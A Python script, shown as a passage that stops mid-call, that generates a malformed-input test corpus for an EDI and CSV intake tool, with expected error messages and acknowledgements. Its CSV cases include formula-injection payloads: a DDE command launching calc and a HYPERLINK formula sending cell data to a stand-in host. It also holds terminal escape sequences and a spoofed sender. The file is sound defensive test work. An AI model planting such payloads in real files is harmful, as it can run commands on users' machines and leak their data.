#!/usr/bin/env python3
"""Writes the hostile-input corpus of tests/data/bad/ and its manifest EXPECTED.tsv.

Each case is a mutation of a known-good file. The expected position (byte offset for X12,
row/column for CSV) is computed here from where the mutation was made, never copied from
avedi's output: a test that compared avedi with itself could not catch a wrong position.
Huge inputs are written as .recipe files (see README.md) and built by the test at run time.

Run from anywhere: python3 tests/data/bad/make_corpus.py  (rewrites x12/, csv/, EXPECTED.tsv)
"""
import os
import shutil

HERE = os.path.dirname(os.path.abspath(__file__))
BASE = open(os.path.join(HERE, "..", "..", "golden", "malformed", "valid-amazon-850.edi"),
            "rb").read()
ISA = BASE[:107]  # the 106-byte ISA and its LF
ISA13 = "000000101"
assert BASE[at(BASE, b"PO1*1*") if False else BASE.find(b"PO1*1*") + 49:].startswith(b"~")
for sub in ("x12", "csv"):
    shutil.rmtree(os.path.join(HERE, sub), ignore_errors=True)
    os.makedirs(os.path.join(HERE, sub))

rows = []  # (file, job, exit, reason substrings, answer substrings)


def at(data, needle, start=0):
    where = data.find(needle, start)
    assert where >= 0, needle
    return where


def replace_once(data, old, new):
    assert data.count(old) == 1, old
    return data.replace(old, new)


def x12(name, data, reasons, answer, *, recipe=None):
    """A committed X12 case (data) or a generated one (recipe text). `reasons` may use {f} for
    the file name as dropped in the inbox."""
    if recipe is not None:
        path = "x12/" + name + ".recipe"
        with open(os.path.join(HERE, path), "w") as out:
            out.write(recipe)
    else:
        path = "x12/" + name + ".edi"
        with open(os.path.join(HERE, path), "wb") as out:
            out.write(data)
    dropped = name + ".edi"
    rows.append((path, "avedi-receive", "65",
                 " && ".join(r.format(f=dropped) for r in reasons),
                 " && ".join(answer) if answer else "none"))


def csv(name, data, reasons, *, recipe=None):
    job = {"inventory": "avedi-stock", "ready": "avedi-route", "shipped": "avedi-ship"}[
        name.split("_")[0]]
    if recipe is not None:
        path = "csv/" + name + ".recipe"
        with open(os.path.join(HERE, path), "w") as out:
            out.write(recipe)
    else:
        path = "csv/" + name + ".csv"
        with open(os.path.join(HERE, path), "wb") as out:
            out.write(data)
    dropped = name + ".csv"
    rows.append((path, job, "65", " && ".join(r.format(f=dropped) for r in reasons), "-"))


def incomplete(name, data, detail):
    """A file cut before its IEA: after intake.max_incomplete_seconds it goes to error unanswered
    (Amazon resends what we never acknowledged), the reason saying where it ends."""
    x12(name, data, ["{f} still looks incomplete after 0 seconds", "{f}: byte " + detail], None)


# ----- truncations at every envelope level (no IEA at the end) -----
cut = lambda n: BASE[:n]
incomplete("t01-cut-inside-isa-at-50", cut(50),
           "0: file ends inside the ISA header (50 bytes, an ISA is 106)")
incomplete("t02-cut-after-isa-letters", cut(3),
           "0: file ends inside the ISA header (3 bytes, an ISA is 106)")
incomplete("t03-cut-inside-isa16", cut(104),
           "0: file ends inside the ISA header (104 bytes, an ISA is 106)")
for name, end in [("t04-cut-after-isa", 107),
                  ("t05-cut-inside-gs02", at(BASE, b"AMAZON*VENDORID*2026") + 3),
                  ("t06-cut-after-gs", at(BASE, b"ST*")),
                  ("t07-cut-inside-st-id", at(BASE, b"ST*") + 1),
                  ("t08-cut-inside-beg03", at(BASE, b"2XK4FDJ3") + 4),
                  ("t09-cut-after-element-separator", at(BASE, b"PO1*1*") + 6),
                  ("t10-cut-before-se", at(BASE, b"SE*")),
                  ("t11-cut-inside-se01", at(BASE, b"SE*") + 4),
                  ("t12-cut-after-se", at(BASE, b"GE*")),
                  ("t13-cut-inside-ge", at(BASE, b"GE*") + 2),
                  ("t14-cut-after-ge", at(BASE, b"IEA*")),
                  ]:
    incomplete(name, cut(end),
               f"{end}, ISA {ISA13}: file ends at byte {end} without IEA (truncated?)")
t15 = at(BASE, b"IEA*") + 3  # "IEA" without its separator: the reader sees the IEA begin
incomplete("t15-cut-at-iea-without-separator", cut(t15),
           f"{t15}, ISA {ISA13}: file ends at byte {t15} inside the IEA (truncated?)")
second = BASE.replace(b"000000101", b"000000102").replace(b"*101*X", b"*102*X").replace(
    b"GE*1*101", b"GE*1*102")
two = BASE + second[:300]
incomplete("t16-second-interchange-cut", two,
           f"{len(two)}, ISA 000000102: file ends at byte {len(two)} without IEA (truncated?)")
# Cut inside IEA02: the last segment starts "IEA*", so it is taken and answered (TA1 E 023).
cut_iea = cut(at(BASE, b"IEA*") + 10)
x12("t17-cut-inside-iea02", cut_iea,
    [f"{{f}}: byte {len(cut_iea)}, ISA {ISA13}: file ends at byte {len(cut_iea)} inside the IEA"],
    ["TA1*000000101*261120*0830*E*023~", "AK9*A*1*1*1~"])

# ----- wrong counts -----
se01 = at(BASE, b"SE*") + 3
ge01 = at(BASE, b"GE*") + 3
iea01 = at(BASE, b"IEA*") + 4
x12("c01-se01-too-small", replace_once(BASE, b"SE*12*", b"SE*11*"),
    [f"{{f}}: byte {se01}, ST 0001: SE01 \"11\" does not match the 12 segments counted"],
    ["AK2*850*0001~", "AK5*R*4~", "AK9*R*1*1*0~"])
x12("c02-se01-too-big", replace_once(BASE, b"SE*12*", b"SE*13*"),
    [f"{{f}}: byte {se01}, ST 0001: SE01 \"13\" does not match the 12 segments counted"],
    ["AK5*R*4~", "AK9*R*1*1*0~"])
x12("c03-se01-zero", replace_once(BASE, b"SE*12*", b"SE*0*"),
    [f"{{f}}: byte {se01}, ST 0001: SE01 \"0\" does not match the 12 segments counted"],
    ["AK5*R*4~", "AK9*R*1*1*0~"])
x12("c04-se01-twenty-digits", replace_once(BASE, b"SE*12*", b"SE*99999999999999999999*"),
    [f"{{f}}: byte {se01}, ST 0001 segment 12 SE01 (element 1): \"99999999999999999999\" is too "
     "long (20 of at most 10 characters)"],
    ["AK3*SE*12**8~", "AK4*1*96*5*99999999999999999999~", "AK5*R*4*5~", "AK9*R*1*1*0~"])
x12("c05-ge01-wrong", replace_once(BASE, b"GE*1*", b"GE*3*"),
    [f"{{f}}: byte {ge01}, GS 101: GE01 \"3\" does not match the 1 transaction sets counted"],
    ["AK5*R~", "AK9*R*3*1*0*5~"])
x12("c06-ge01-zero", replace_once(BASE, b"GE*1*", b"GE*0*"),
    [f"{{f}}: byte {ge01}, GS 101: GE01 \"0\" does not match the 1 transaction sets counted"],
    ["AK9*R*0*1*0*5~"])
x12("c07-iea01-wrong", replace_once(BASE, b"IEA*1*", b"IEA*5*"),
    [f"{{f}}: byte {iea01}, ISA {ISA13}: IEA01 \"5\" does not match the 1 functional groups"],
    ["TA1*000000101*261120*0830*E*021~", "AK9*A*1*1*1~"])
x12("c08-iea01-zero", replace_once(BASE, b"IEA*1*", b"IEA*0*"),
    [f"{{f}}: byte {iea01}, ISA {ISA13}: IEA01 \"0\" does not match the 1 functional groups"],
    ["TA1*000000101*261120*0830*E*021~"])
two_sets = replace_once(BASE, b"GE*1*101", b"GE*1*101").replace(
    b"SE*12*0001~\n", b"SE*12*0001~\n" + BASE[at(BASE, b"ST*"):at(BASE, b"GE*")].replace(
        b"0001", b"0002"), 1)
ge01_two = at(two_sets, b"GE*") + 3
x12("c09-ge01-one-for-two-sets", two_sets,
    [f"{{f}}: byte {ge01_two}, GS 101: GE01 \"1\" does not match the 2 transaction sets counted"],
    ["AK2*850*0001~", "AK2*850*0002~", "AK9*R*1*2*0*5~"])

# ----- wrong control numbers -----
iea02 = at(BASE, b"IEA*") + 6
ge02 = at(BASE, b"GE*") + 5
se02 = at(BASE, b"SE*") + 6
x12("n01-iea02-not-isa13", replace_once(BASE, b"IEA*1*000000101", b"IEA*1*000000999"),
    [f"{{f}}: byte {iea02}, ISA {ISA13}: IEA02 \"000000999\" does not match ISA13 \"000000101\""],
    ["TA1*000000101*261120*0830*E*001~"])
x12("n02-iea02-short", replace_once(BASE, b"IEA*1*000000101", b"IEA*1*101"),
    [f"{{f}}: byte {iea02}, ISA {ISA13}: IEA02 \"101\" does not match ISA13 \"000000101\""],
    ["TA1*000000101*261120*0830*E*001~"])
x12("n03-ge02-not-gs06", replace_once(BASE, b"GE*1*101", b"GE*1*777"),
    [f"{{f}}: byte {ge02}, GS 101: GE02 \"777\" does not match GS06 \"101\""],
    ["AK1*PO*101~", "AK5*R~", "AK9*R*1*1*0*4~"])
x12("n04-se02-not-st02", replace_once(BASE, b"SE*12*0001", b"SE*12*0009"),
    [f"{{f}}: byte {se02}, ST 0001: SE02 \"0009\" does not match ST02 \"0001\""],
    ["AK5*R*3~", "AK9*R*1*1*0~"])
dup_st = replace_once(two_sets.replace(b"0002", b"0001"), b"GE*1*", b"GE*2*")
second_st02 = at(dup_st, b"ST*850*0001", at(dup_st, b"SE*")) + 7
x12("n05-st02-twice-in-group", dup_st,
    [f"{{f}}: byte {second_st02}, ST 0001: ST02 \"0001\" is already used by transaction set 1"],
    ["AK5*R*23~", "AK9*P*2*2*1~"])
dup_gs = BASE[:at(BASE, b"IEA*")] + BASE[107:at(BASE, b"IEA*")]
dup_gs = replace_once(dup_gs.replace(b"IEA*1*", b"IEA*2*"), b"XXXX", b"XXXX") if False else \
    dup_gs + b"IEA*2*000000101~\n"
second_gs06 = at(dup_gs, b"GS*", 108) + len(b"GS*PO*AMAZON*VENDORID*20261120*0830*")
x12("n06-gs06-twice-in-interchange", dup_gs,
    [f"{{f}}: byte {second_gs06}, GS 101: GS06 \"101\" is already used by group 1 of this "
     "interchange"],
    # 716 code 19 (control number not unique) exists from 004050 on: a 4010 AK9 has no code.
    ["AK9*A*1*1*1~", "AK5*R~", "AK9*R*1*1*0~"])

# ----- envelope shape -----
isa_5010 = replace_once(BASE, b"*U*00401*", b"*^*00501*")
beg05 = at(BASE, b"*20261120~\nREF") + 1
x12("e01-5010-isa-with-4010-gs-bad-beg05",
    replace_once(isa_5010, b"*20261120~\nREF", b"*20261399~\nREF"),
    [f"{{f}}: byte {beg05}, ST 0001 segment 2 BEG05 (element 5): \"20261399\" is not a date"],
    ["*^*00501*", "AK3*BEG*2**8~", "AK4*5*373*8*20261399~", "AK9*R*1*1*0~"])
no_gs = BASE[:107] + BASE[at(BASE, b"ST*"):at(BASE, b"GE*")] + BASE[at(BASE, b"IEA*"):]
x12("e02-no-gs-no-ge", no_gs,
    [f"{{f}}: byte 107, ISA {ISA13}: transaction set ST \"850\" \"0001\" is outside any "
     "functional group"], ["TA1*000000101*261120*0830*R*022~"])
no_se = BASE[:at(BASE, b"SE*")] + BASE[at(BASE, b"GE*"):]
x12("e03-se-missing", no_se,
    [f"{{f}}: byte {at(no_se, b'GE*')}, ST 0001: transaction set has no SE trailer"],
    ["AK5*R*2~", "AK9*R*1*1*0~"])
no_ge = BASE[:at(BASE, b"GE*")] + BASE[at(BASE, b"IEA*"):]
x12("e04-ge-missing", no_ge,
    [f"{{f}}: byte {at(no_ge, b'IEA*')}, GS 101: functional group has no GE trailer"],
    ["AK9*R*1*1*0*3~"])
no_st = BASE[:at(BASE, b"ST*")] + BASE[at(BASE, b"BEG*"):]
x12("e05-st-missing", no_st,
    [f"{{f}}: byte {at(no_st, b'BEG*')}, ISA {ISA13}: segment \"BEG\" is outside any "
     "transaction set"], ["TA1*000000101*261120*0830*E*024~"])
nested = BASE[:at(BASE, b"BEG*")] + ISA + BASE[at(BASE, b"BEG*"):]
nested_at = at(nested, b"ISA*", 1)
x12("e06-isa-inside-a-set", nested,
    [f"{{f}}: byte {nested_at}, ISA {ISA13}: interchange has no IEA before the next ISA",
     f"{{f}}: byte {nested_at}, ST 0001: transaction set has no SE trailer"],
    ["TA1*000000101*261120*0830*E*023~", "AK5*R*2~", "AK9*R*1*1*0*3~"])
wrong_sender = replace_once(BASE, b"ZZ*AMAZON         ", b"ZZ*EVILCORP       ")
x12("e07-sender-not-amazon", wrong_sender,
    [f"{{f}}: ISA {ISA13}: sender ZZ/EVILCORP is not Amazon (ZZ/AMAZON in partners.amazon)"],
    None)
wrong_receiver = replace_once(BASE, b"ZZ*VENDORID       ", b"ZZ*SOMEBODYELSE   ")
x12("e08-receiver-not-us", wrong_receiver, [f"{{f}}: ISA {ISA13}: receiver ZZ/SOMEBODYELSE"],
    None)
html = b"<html><head><title>502 Bad Gateway</title></head><body>nginx</body></html>"
x12("e09-html-error-page", html + b"\n",
    [f"{{f}}: byte 0: \"<html><head>\" found where an ISA must start; skipped {len(html) + 1} "
     "bytes"], None)
mime = b"Content-Type: application/edi-x12\r\nContent-Transfer-Encoding: binary\r\n\r\n"
x12("e10-mime-headers-before-isa", mime + BASE,
    [f"{{f}}: byte 0: \"Content-Type\" found where an ISA must start; skipped {len(mime)} bytes"],
    # The interchange after the junk is sound: answered, the file kept in error/ for the junk.
    ["AK5*A~", "AK9*A*1*1*1~"])
utf16 = b"\xff\xfe" + b"".join(bytes([c, 0]) for c in BASE)
x12("e11-utf16le", utf16,
    ["{f}: byte 0: \"\\xFF\\xFEI\\x00S\\x00A\\x00*\\x000\\x00\" found where an ISA must start; "
     # The final NUL counts as end-of-file padding (see golden case 49), not as skipped text.
     f"skipped {len(utf16) - 1} bytes"], None)
x12("e12-only-iea", b"IEA*1*000000101~\n",
    ["{f}: byte 0: \"IEA*1*000000\" found where an ISA must start; skipped 17 bytes"], None)
after_iea = BASE + b"GARBAGE AFTER THE END~\n"
# No IEA at the end, so it is refused as incomplete (unanswered), the junk's place named.
x12("e13-text-after-iea", after_iea,
    ["{f} still looks incomplete after 0 seconds",
     f"{{f}}: byte {len(BASE)}: \"GARBAGE AFTE\" found where an ISA must start; skipped 23 bytes"],
    None)
gs01_in = replace_once(BASE, b"GS*PO*", b"GS*IN*")
x12("e14-gs01-invoice-around-850", gs01_in,
    [f"{{f}}: byte {at(BASE, b'ST*') + 3}, ST 0001: ST01 \"850\" does not belong in a group "
     "with GS01 \"IN\""], ["AK1*IN*101~", "AK5*R*6~"])
# An empty segment ("~~") is tolerated as padding and not counted: SE01 13 is then wrong.
empty_segment = replace_once(replace_once(BASE, b"FOB*CC~\n", b"FOB*CC~\n~\n"), b"SE*12*",
                             b"SE*13*")
x12("e15-empty-segment-not-counted", empty_segment,
    [f"{{f}}: byte {at(empty_segment, b'SE*') + 3}, ST 0001: SE01 \"13\" does not match the 12 "
     "segments counted"], ["AK5*R*4~", "AK9*R*1*1*0~"])
x12("e16-ta1-requested-bad-isa09", replace_once(BASE, b"*261120*0830*U", b"*261199*0830*U"),
    [f"{{f}}: byte 70, ISA {ISA13}: ISA09 (date) \"261199\" is not a date YYMMDD"],
    ["TA1*000000101*000101*0830*R*014~"])
x12("e17-isa-separator-letter", replace_once(BASE, b"ISA*", b"ISAQ").replace(b"*", b"Q", 15),
    # Its IEA cannot be found with a letter as separator: refused as incomplete, unanswered.
    ["{f}: byte 3, ISA 000000101: element separator \"Q\" must not be a letter, digit or space",
     "{f}: byte 106, ISA 000000101: the rest of the file (325 bytes) cannot be read"], None)
lf_terminator = BASE.replace(b"~\n", b"\n")
x12("e18-newline-as-terminator-bad-se01", replace_once(lf_terminator, b"SE*12*", b"SE*14*"),
    [f"{{f}}: byte {at(lf_terminator, b'SE*') + 3}, ST 0001: SE01 \"14\" does not match"],
    ["AK5*R*4~"])
pipes = BASE.replace(b"*", b"|").replace(b"|>~", b"|:~")
pipes_bad = replace_once(pipes, b"N1|ST||92|ABE8", b"N1|STXX||92|ABE8")
x12("e19-pipe-delimiters-bad-n101", pipes_bad,
    [f"{{f}}: byte {at(pipes, b'N1|ST') + 3}, ST 0001 segment 8 N101 (element 1): \"STXX\" is too "
     "long"], ["AK3*N1*8**8~", "AK4*1*98*5*STXX~"])
second_bad = replace_once(second, b"*261120*0830*U", b"*261131*0830*U")
x12("e20-second-interchange-bad-isa09", BASE + second_bad,
    [f"{{f}}: byte {len(BASE) + 70}, ISA 000000102: ISA09 (date) \"261131\" is not a date"],
    ["AK1*PO*101~", "AK9*A*1*1*1~", "TA1*000000102*000101*0830*R*014~"])
x12("e21-unknown-set-999-in-po-group", replace_once(BASE, b"ST*850*", b"ST*999*"),
    [f"{{f}}: byte {at(BASE, b'ST*') + 3}, ST 0001: ST01 \"999\" does not belong in a group with "
     "GS01 \"PO\" (expected FA)"], ["AK2*999*0001~", "AK5*R*6~"])
ta1_unaddressable = replace_once(BASE, b"*0*T*>~", b"*1*T*>~")
x12("e22-ta1-requested-iea02-wrong", replace_once(ta1_unaddressable, b"IEA*1*000000101",
                                                  b"IEA*1*000000100"),
    [f"{{f}}: byte {iea02}, ISA {ISA13}: IEA02 \"000000100\" does not match ISA13"],
    ["TA1*000000101*261120*0830*E*001~"])

# ----- delimiters inside data -----
star_in_name = replace_once(BASE, b"N1*ST**92*ABE8", b"N1*ST*ACME*CORP*92*ABE8")
x12("d01-element-separator-inside-n102", star_in_name,
    [f"{{f}}: byte {at(star_in_name, b'CORP')}, ST 0001 segment 8 N103 (element 3): \"CORP\""],
    ["AK3*N1*8**8~", "AK4*3*66*"])
tilde_in_po = replace_once(BASE, b"BEG*00*NE*2XK4FDJ3**", b"BEG*00*NE*2XK4~FDJ3**")
x12("d02-terminator-inside-beg03", tilde_in_po,
    [f"{{f}}: byte {at(tilde_in_po, b'SE*') + 3}, ST 0001: SE01 \"12\" does not match the 13 "
     "segments counted"], ["AK5*R*"])
comp_in = replace_once(BASE, b"BEG*00*NE*2XK4FDJ3**", b"BEG*00*NE*2XK4>FDJ3**")
x12("d03-component-separator-inside-beg03", comp_in,
    [f"{{f}}: byte {at(comp_in, b'2XK4>')}, ST 0001 segment 2 BEG03 (element 3): \"2XK4>FDJ3\" "
     "contains the component separator \">\", which cannot be data"],
    ["AK3*BEG*2**8~", "AK4*3*324*6*2XK4?FDJ3~"])
rep_in = replace_once(isa_5010, b"N1*ST**92*ABE8", b"N1*ST*A^B*92*ABE8")
x12("d04-repetition-separator-inside-n102-5010", replace_once(rep_in, b"SE*12*", b"SE*11*"),
    # A repetition separator in data is not an error of its own (senders reuse ISA11 characters),
    # but it is no segment break either: the count stays 12.
    [f"{{f}}: byte {at(rep_in, b'SE*') + 3}, ST 0001: SE01 \"11\" does not match the 12 segments"],
    ["AK5*R*4~"])

# ----- non-ASCII and NUL bytes -----
nul = replace_once(BASE, b"2XK4FDJ3", b"2XK4\x00DJ3")
x12("b01-nul-inside-beg03", nul,
    [f"{{f}}: byte {at(BASE, b'2XK4FDJ3')}, ST 0001 segment 2 BEG03 (element 3): "
     "\"2XK4\\x00DJ3\" contains a control character"], ["AK4*3*324*6*2XK4?DJ3~"])
nul_run = replace_once(BASE, b"FOB*CC~\n", b"FOB*CC~\n\x00\x00\x00\x00")
nul_at = at(nul_run, b"\x00")
x12("b02-nul-bytes-between-segments", nul_run,
    [f"{{f}}: byte {nul_at}, ST 0001 segment 5 \\x00\\x00\\x00\\x00CSH: \"\\x00\\x00\\x00\\x00CSH\" "
     "is not a segment id"], ["AK3*???*5**1~", "AK5*R*5~"])
utf8 = replace_once(BASE, b"N1*ST**92*ABE8", b"N1*ST*M\xc3\xbcller Stra\xc3\x9fe*92*ABE8")
# Non-ASCII text is accepted (Amazon's names are UTF-8), but positions after it count bytes.
utf8_bad = replace_once(utf8, b"CTT*2*", b"CTT*Z*")
x12("b03-utf8-in-n102-then-bad-ctt01", utf8_bad,
    [f"{{f}}: byte {at(utf8_bad, b'CTT*') + 4}, ST 0001 segment 11 CTT01 (element 1): \"Z\" is not "
     "a number"], ["AK3*CTT*11**8~", "AK4*1*354*6*Z~"])
latin1 = replace_once(BASE, b"B0EXAMPLE1", b"B0EXAMPL\xe91")
# A product id avedi echoes in its 855 must be writable there: rejected at intake, not left to
# make every avedi-acknowledge run fail.
x12("b04-latin1-in-po107", latin1,
    [f"{{f}}: byte {at(latin1, b'B0EXAMPL')}, ST 0001 segment 9 PO107 (element 7): "
     "\"B0EXAMPL\\xE91\" holds a character avedi cannot send back"],
    ["AK3*PO1*9**8~", "AK4*7*234*6*B0EXAMPL?1~", "AK5*R*5~"])
caret = replace_once(BASE, b"2XK4FDJ3", b"2XK4^DJ3")
x12("b09-caret-in-beg03", caret,
    [f"{{f}}: byte {at(BASE, b'2XK4FDJ3')}, ST 0001 segment 2 BEG03 (element 3): \"2XK4^DJ3\" "
     "holds a character avedi cannot send back"], ["AK3*BEG*2**8~", "AK4*3*324*6*2XK4"])
bom_mid = replace_once(BASE, b"~\nREF*CR", b"~\n\xef\xbb\xbfREF*CR")
bom_at = at(bom_mid, b"\xef\xbb\xbf")
x12("b05-bom-before-a-segment", bom_mid,
    [f"{{f}}: byte {bom_at}, ST 0001 segment 3 \\xEF\\xBB\\xBFREF: \"\\xEF\\xBB\\xBFREF\" is not a "
     "segment id"], ["AK3*???*3**1~", "AK5*R*5~"])
# A terminal escape sequence as a segment id: the reason and log show it escaped, never raw.
esc_id = replace_once(BASE, b"FOB*CC~", b"\x1b[2JFOB*CC~")
x12("b10-escape-sequence-as-segment-id", esc_id,
    [f"{{f}}: byte {esc_id.find(bytes([27]))}, ST 0001 segment 4 "
     "\\x1B[2JFOB: \"\\x1B[2JFOB\" is not a segment id"], ["AK3*?[2*4**1~"])
x12("b06-del-in-ref02", replace_once(BASE, b"REF*CR*VEND01", b"REF*CR*VEND\x7f01"),
    [f"{{f}}: byte {at(BASE, b'VEND01')}, ST 0001 segment 3 REF02 (element 2): "
     "\"VEND\\x7F01\" contains a control character"], ["AK3*REF*3**8~"])
elf = b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 4
x12("b07-binary-elf", elf,
    ["{f}: byte 0: \"\\x7FELF\\x02\\x01\\x01\\x00\\x00\\x01\\x02\\x03\" found where an ISA must "
     f"start; skipped {len(elf)} bytes"], None)
escape = replace_once(BASE, b"N1*ST**92*ABE8", b"N1*ST*\x1b[31mRED\x1b[0m*92*ABE8")
esc_at = at(escape, b"\x1b")
x12("b08-terminal-escape-in-n102", escape,
    [f"{{f}}: byte {esc_at}, ST 0001 segment 8 N102 (element 2)",
     "contains a control character"], ["AK4*2*93*6*"])

# ----- element values avedi's handlers check -----
x12("v01-po1-quantity-negative", replace_once(BASE, b"PO1*1*10*", b"PO1*1*-10*"),
    [f"{{f}}: byte {at(BASE, b'PO1*1*') + 6}, ST 0001 segment 9 PO102"], ["AK3*PO1*9**"])
no_beg = BASE[:at(BASE, b"BEG*")] + BASE[at(BASE, b"REF*"):].replace(b"SE*12*", b"SE*11*")
# Reported where the lines begin, the first segment that needed a BEG before it.
x12("v02-beg-missing", no_beg,
    [f"{{f}}: byte {at(no_beg, b'PO1*1*')}, ST 0001 segment 8 BEG: BEG (purchase order number and "
     "date) is missing"], ["AK3*BEG*8**3~", "AK5*R*5~"])
huge_ref = replace_once(BASE, b"REF*CR*VEND01", b"REF*CR*" + b"V" * 5000)
x12("v03-ref02-5000-chars", huge_ref,
    [f"{{f}}: byte {at(BASE, b'VEND01')}, ST 0001 segment 3 REF02 (element 2)",
     "is too long (5000 of at most"], ["AK3*REF*3**8~", "AK4*2*127*5*"])

# ----- huge inputs: generated at test time from a recipe -----
n1 = at(BASE, b"N1*ST**92*ABE8")
x12("h01-100mb-in-one-segment", None,
    [f"{{f}}: byte {n1 + 6}, ST 0001 segment 8 N102 (element 2)",
     "is too long (100000000 of at most 60 characters)"],
    # AK404 carries at most 99 characters: the answer must not grow with the input.
    ["AK3*N1*8**8~", "AK4*2*93*5*" + "A" * 99 + "~"],
    recipe="# An 850 whose ship-to name (N102) is 100,000,000 bytes: one 100 MB segment.\n"
    f"include-range ../../../golden/malformed/valid-amazon-850.edi 0 {n1 + 6}\n"
    "repeat 100000000 A\n"
    f"include-range ../../../golden/malformed/valid-amazon-850.edi {n1 + 6} end\n")
po1 = at(BASE, b"PO1*1*")
x12("h02-million-empty-elements", None,
    [f"{{f}}: byte {po1 + 49 + 17}, "
     "ST 0001 segment 9 PO126 (element 26): too many elements (PO1 has at most 25)"],
    ["AK3*PO1*9**8~", "AK4*26**3~"],
    recipe="# The first PO1 followed by 1,000,000 empty elements.\n"
    f"include-range ../../../golden/malformed/valid-amazon-850.edi 0 {po1 + 49}\n"
    "repeat 1000000 *\n"
    f"include-range ../../../golden/malformed/valid-amazon-850.edi {po1 + 49} end\n")
lines = 200000
head = BASE[:at(BASE, b"PO1*1*")]
line = b"PO1*1*1*EA*12.5*PE*BP*B0EXAMPLE1~\n"
bad_at = len(head) + lines * len(line) + len(b"PO1*1*")
x12("h03-200000-po1-loops-last-bad", None,
    [f"{{f}}: byte {bad_at}, ST 0001 segment {9 + lines} PO102 (element 2): \"X\" is not a "
     "decimal number"], [f"AK3*PO1*{9 + lines}**8~", "AK4*2*330*6*X~"],
    recipe="# 200,000 PO1 loops, then one whose quantity is X: the error is 6.8 MB deep.\n"
    f"include-range ../../../golden/malformed/valid-amazon-850.edi 0 {len(head)}\n"
    f"repeat {lines} PO1*1*1*EA*12.5*PE*BP*B0EXAMPLE1~\\n\n"
    "text PO1*1*X*EA*12.5*PE*BP*B0EXAMPLE1~\\n\n"
    f"text CTT*{lines + 1}*{lines + 1}~\\nSE*{lines + 4 + 7}*0001~\\nGE*1*101~\\n"
    "IEA*1*000000101~\\n\n")
x12("h04-50mb-of-newlines-then-isa", None,
    ["{f} still looks incomplete after 0 seconds",
     "{f}: byte 50000000: file ends inside the ISA header (7 bytes, an ISA is 106)"], None,
    recipe="# 50,000,000 line feeds and nothing else but a cut ISA: no interchange at all.\n"
    "repeat 50000000 \\n\n"
    "text ISA*00*\n")

# ============================== CSV ==============================
INV = b"sku,available,warehouse,as_of\n"
csv("inventory_c01-formula-in-available",
    INV + b"WID-100,=cmd|' /C calc'!A0,3PL-EAST,2026-11-26\n",
    ["{f}: row 2, column available: \"=cmd|' /C calc'!A0\" is not a whole number"])
csv("inventory_c02-hyperlink-formula-in-available",
    INV + b"WID-100,6,3PL-EAST,2026-11-26\n"
    b"WID-200,\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"x\"\")\",3PL-EAST,2026-11-26\n",
    ["{f}: row 3, column available: \"=HYPERLINK(\"http://x/?\"&A1,\"x\")\" is not a whole number"])
csv("inventory_c03-embedded-newlines-shift-rows",
    INV + b"\"WID\n100\",6,3PL-EAST,2026-11-26\n\"WID-\r\n2\n00\",7,3PL-EAST,2026-11-26\n"
    b"WID-400,ten,3PL-EAST,2026-11-26\n",
    ["{f}: row 7, column available: \"ten\" is not a whole number"])
csv("inventory_c04-quote-never-closed",
    INV + b"WID-100,6,3PL-EAST,2026-11-26\n\"WID-200,7,3PL-EAST,2026-11-26\n",
    ["{f}: row 3: a quoted cell is never closed (the file ends inside it)"])
csv("inventory_c05-quote-inside-unquoted-cell",
    INV + b"WID-100,6,3PL-EAST,2026-11-26\nWID\"200,7,3PL-EAST,2026-11-26\n",
    ["{f}: row 3: cell 1: a quote inside an unquoted cell"])
csv("inventory_c06-ten-thousand-columns", None,
    ["{f}: row 3: has 10000 cells, the header has 4"],
    recipe="# A good row, then a row of 10,000 cells.\n"
    "text sku,available,warehouse,as_of\\nWID-100,6,3PL-EAST,2026-11-26\\nWID-200,7\n"
    "repeat 9998 ,\n"
    "text \\n\n")
csv("inventory_c07-bom-in-the-middle",
    INV + b"WID-100,6,3PL-EAST,2026-11-26\n\xef\xbb\xbfWID-200,7,3PL-EAST,2026-11-26\n",
    ["{f}: row 3: cell 1: a byte-order mark (U+FEFF) inside the file"])
csv("inventory_c08-mixed-line-endings-lone-cr",
    b"sku,available,warehouse,as_of\r\nWID-100,6,3PL-EAST,2026-11-26\n"
    b"WID-200,7,3PL-EAST,2026-11-26\rWID-400,8,3PL-EAST,2026-11-26\r\n",
    ["{f}: row 3: cell 4: a carriage return without a line feed"])
csv("inventory_c09-nul-in-sku",
    INV + b"WID-100,6,3PL-EAST,2026-11-26\nWID\x00200,7,3PL-EAST,2026-11-26\n",
    ["{f}: row 3: cell 1: contains the control character 0x00"])
csv("inventory_c10-negative",
    INV + b"WID-100,-4,3PL-EAST,2026-11-26\n",
    ["{f}: row 2, column available: \"-4\" is negative"])
csv("inventory_c11-sku-twice",
    INV + b"WID-100,6,3PL-EAST,2026-11-26\nWID-200,1,3PL-EAST,2026-11-26\n"
    b"WID-100,7,3PL-EAST,2026-11-26\n",
    ["{f}: row 4, column sku: \"WID-100\" is listed again (first on row 2)"])
csv("inventory_c12-required-column-missing",
    b"sku,qty\nWID-100,6\n",
    ["{f}: row 1, column available: required column is missing from the header"])
csv("inventory_c13-empty", b"", ["{f} is empty"])
csv("inventory_c14-header-only", INV, ["{f}: row 1: the file has no stock rows"])
csv("inventory_c15-two-warehouses",
    INV + b"WID-100,6,3PL-EAST,2026-11-26\nWID-200,7,3PL-WEST,2026-11-26\n",
    ["{f}: row 3, column warehouse: \"3PL-WEST\" differs from \"3PL-EAST\""])
csv("inventory_c16-as-of-month-13",
    INV + b"WID-100,6,3PL-EAST,2026-13-01\n",
    ["{f}: row 2, column as_of: \"2026-13-01\" is not a date"])
csv("inventory_c17-utf16le", b"\xff\xfe" + b"".join(bytes([c, 0]) for c in INV +
                                                      b"WID-100,6,3PL-EAST,2026-11-26\n"),
    ["{f}: row 1: cell 1: contains the control character 0x00"])
csv("inventory_c18-twenty-digit-number",
    INV + b"WID-100,99999999999999999999,3PL-EAST,2026-11-26\n",
    ["{f}: row 2, column available: \"99999999999999999999\" is not a whole number"])
csv("inventory_c19-decimal-quantity",
    INV + b"WID-100,6.0,3PL-EAST,2026-11-26\n",
    ["{f}: row 2, column available: \"6.0\" is not a whole number"])
csv("inventory_c20-column-twice",
    b"sku,available,sku\nWID-100,6,WID-200\n",
    ["{f}: row 1, column sku: column appears twice in the header"])
csv("inventory_c21-binary", b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00",
    ["{f}: row 1: cell 1: contains the control character 0x7F"])
csv("inventory_c22-million-empty-lines-then-bad", None,
    ["{f}: row 1000003, column available: \"x\" is not a whole number"],
